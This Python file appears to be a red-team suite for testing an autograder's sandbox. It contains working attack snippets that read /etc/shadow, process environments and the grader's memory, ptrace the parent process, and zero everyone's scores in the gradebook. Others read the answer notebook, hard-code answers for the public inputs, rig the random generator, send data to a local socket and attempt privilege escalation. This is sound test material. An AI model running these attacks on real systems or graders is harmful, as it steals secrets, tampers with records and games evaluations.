"""Attacks that read what they must not, write where they must not, or know the inputs before they come.

A secret has leaked when it stands in what the attacker gets back: an exception's text appears in the verdict.
"""

from lowprec_lab.bench.attacks import Attack

NOTHING = "return torch.zeros(x.shape, dtype=torch.int32)"
TELL = "raise ValueError(found)"

READ_THE_SOURCE = """
    import json
    page = json.load(open("@COURSE@/source/01_bit_layouts/01_bit_layouts.ipynb"))
    [cell] = [cell for cell in page["cells"] if cell.get("id") == "bit_pattern"]
    text = "".join(cell["source"]).replace("@fill", "")
    names = {"torch": torch}
    exec(text, names)
    return names["bit_pattern"](x)
"""

SAME_NUMBERS = """
    import numpy
    class Same:
        def __getattr__(self, name):
            return getattr(generator, name)
        def integers(self, low, high=None, size=None, **more):
            return numpy.full(size if size is not None else (), low, **more)
    generator = numpy.random.Generator(numpy.random.PCG64(1))
    numpy.random.default_rng = lambda *seed: Same()
"""


def knows_public_inputs() -> str:
    """A source that knows the right results for the inputs that the public seed draws, and nothing else.

    The attacker made the table at home, with a friend's right answer.
    """
    import base64
    import zlib

    import numpy as np

    from lowprec_lab.graders.registry import CHECKS, load_graders
    from lowprec_lab.graders.run import PUBLIC_SEED, run_check

    load_graders()
    seen: list[np.ndarray] = []

    def friend(x):
        import torch

        bits = x.contiguous().view(torch.int32)
        seen.append(bits.reshape(-1).numpy().copy())
        return bits

    for check in CHECKS["bit_pattern"]:
        run_check(check, friend, PUBLIC_SEED)
    codes = np.unique(np.concatenate(seen)).astype("<i4")
    table = base64.b85encode(zlib.compress(codes.tobytes(), 9)).decode()
    return f"""
import base64, zlib
import numpy
KNOWN = numpy.frombuffer(zlib.decompress(base64.b85decode({table!r})), "<i4").copy()


@fill
def bit_pattern(x):
    codes = x.contiguous().view(torch.int32).numpy()
    return torch.from_numpy(numpy.where(numpy.isin(codes, KNOWN), codes, 0).astype("int32").reshape(codes.shape))
"""


def fingerprint(path: str) -> str:
    """An attack's body that tells the fingerprint of a file outside of the course."""
    return f"""
    import hashlib
    found = hashlib.sha256(open({path!r}, "rb").read()).hexdigest()
    {TELL}
    """


ATTACKS = [
    Attack("reads_a_file", "Reads a file that is not its own.", f"found = open('@CANARY@').read()\n{TELL}"),
    Attack(
        "reads_through_the_root_of_a_process",
        "Looks for the same file through /proc/*/root and /proc/*/cwd.",
        f"""
        import glob
        found = "nothing"
        for way in glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/cwd"):
            try:
                found = open(way + "/@CANARY@").read()
                break
            except OSError:
                pass
        {TELL}
        """,
    ),
    Attack(
        "changes_a_file",
        "Changes a file that is not its own, and leaves others beside it.",
        """
        import os
        for path in ("@CANARY@", "@DROP@/left", "@COURSE@/left"):
            try:
                os.chmod(path, 0o666)
            except OSError:
                pass
            try:
                open(path, "a").write("changed")
            except OSError:
                pass
        return torch.zeros(x.shape, dtype=torch.int32)
        """,
    ),
    Attack("reads_the_seed", "Reads the course's seed.", f"found = open('@COURSE@/seed').read()\n{TELL}"),
    Attack(
        "reads_the_gradebook",
        "Reads the names in the gradebook.",
        f"""
        import re
        found = re.search(b"secret-[0-9a-f]+", open("@COURSE@/gradebook.db", "rb").read()).group().decode()
        {TELL}
        """,
    ),
    Attack(
        "writes_the_gradebook",
        "Gives itself points in the gradebook, and takes them from everybody else.",
        """
        import sqlite3
        book = sqlite3.connect("@COURSE@/gradebook.db", timeout=5)
        book.execute("UPDATE grade SET manual_score = 0")
        book.commit()
        book.close()
        return torch.zeros(x.shape, dtype=torch.int32)
        """,
    ),
    Attack(
        "reads_the_source", "Reads the answers in the course's source notebook, and answers with them.", READ_THE_SOURCE
    ),
    Attack(
        "looks_around",
        "Searches its working folder and those above for answers, seeds and grade books.",
        f"""
        import os, re
        found = "nothing"
        folder = os.getcwd()
        for _ in range(6):
            for name in ("seed", "gradebook.db", "course.json"):
                try:
                    text = open(os.path.join(folder, name), errors="replace").read()
                    found = re.search("secret-[0-9a-f]+", text).group()
                except (OSError, AttributeError):
                    pass
            folder = os.path.dirname(folder)
        {TELL}
        """,
    ),
    Attack("reads_etc_passwd", "Reads /etc/passwd.", fingerprint("/etc/passwd")),
    Attack("reads_etc_shadow", "Reads /etc/shadow.", fingerprint("/etc/shadow")),
    Attack(
        "reads_the_machines_name",
        "Reads /etc/hostname, which tells on whose machine it runs.",
        fingerprint("/etc/hostname"),
    ),
    Attack(
        "reads_the_home",
        "Reads a file in the home of whoever grades.",
        "found = open('@HOME@/.red_team').read()\n" + TELL,
    ),
    Attack(
        "reads_the_environment",
        "Reads the environment of its process, where seeds and tokens may be.",
        f"import os\nfound = os.environ.get('LOWPREC_CANARY', '') + os.environ.get('LOWPREC_SEED', '')\n{TELL}",
    ),
    Attack(
        "reads_other_environments",
        "Reads the environment of every process that it can see.",
        f"""
        import glob, re
        found = "nothing"
        for path in glob.glob("/proc/[0-9]*/environ"):
            try:
                found = re.search(b"LOWPREC_CANARY=([^\\0]*)", open(path, "rb").read()).group(1).decode()
                break
            except (OSError, AttributeError):
                pass
        {TELL}
        """,
    ),
    Attack(
        "reads_the_judges_memory",
        "Searches the memory of the process that started it for the seed.",
        f"""
        import os, re
        found = "nothing"
        process = os.getppid()
        for line in open(f"/proc/{{process}}/maps"):
            ends, rights = line.split()[:2]
            start, end = (int(each, 16) for each in ends.split("-"))
            if "w" not in rights or end - start > 2**28:
                continue
            with open(f"/proc/{{process}}/mem", "rb") as memory:
                memory.seek(start)
                hit = re.search(b"secret-[0-9a-f]{{32}}", memory.read(end - start))
            if hit:
                found = hit.group().decode()
                break
        {TELL}
        """,
    ),
    Attack(
        "traces_the_judge",
        "Attaches itself to the process that started it as a debugger does, and detaches.",
        f"""
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        refused = libc.ptrace(16, os.getppid(), None, None)
        if not refused:
            os.waitpid(os.getppid(), 0x40000000)
            libc.ptrace(17, os.getppid(), None, None)
            open("@DROP@/traced", "w").close()
        {NOTHING}
        """,
    ),
    Attack(
        "knows_the_public_inputs",
        "Has a table of the right results for the inputs that the public seed draws, and nothing else.",
        answers={"bit_pattern": knows_public_inputs()},
        deserves={
            "bit_pattern": 0.5
        },  # for one check of three, of weight 1 in 4, the inputs are the same for everybody
    ),
    Attack(
        "always_the_same_numbers",
        "Replaces numpy's generator, so that every input is 0.",
        NOTHING,
        before=SAME_NUMBERS,
    ),
    Attack(
        "reaches_the_network",
        "Sends what it knows to a program that listens on the machine.",
        """
        import socket
        with socket.create_connection(("127.0.0.1", @PORT@), timeout=5) as line:
            line.sendall(b"@NAME@")
            line.recv(10)
        return torch.zeros(x.shape, dtype=torch.int32)
        """,
    ),
    Attack(
        "gets_more_rights",
        "Becomes root, makes namespaces of its own, and mounts; it tells when it may.",
        f"""
        import ctypes, hashlib, os
        libc = ctypes.CDLL(None, use_errno=True)
        folder = os.path.abspath("@MARK@-mount").encode()
        os.makedirs(folder, exist_ok=True)
        try:
            os.setuid(0)
        except OSError:
            pass
        # What it mounts is an empty folder, in a mount namespace that ends with it: nothing outside can change.
        if libc.unshare(0x10020000) == 0 or libc.unshare(0x00020000) == 0:
            private = libc.mount(b"none", b"/", None, 0x44000, None) == 0
            if private and libc.mount(b"none", folder, b"tmpfs", 0, None) == 0:
                libc.umount(folder)
                found = hashlib.sha256(b"@MARK@").hexdigest()
                {TELL}
        return torch.zeros(x.shape, dtype=torch.int32)
        """,
        not_on_stock="as root it could change the machine that measures",
    ),
]
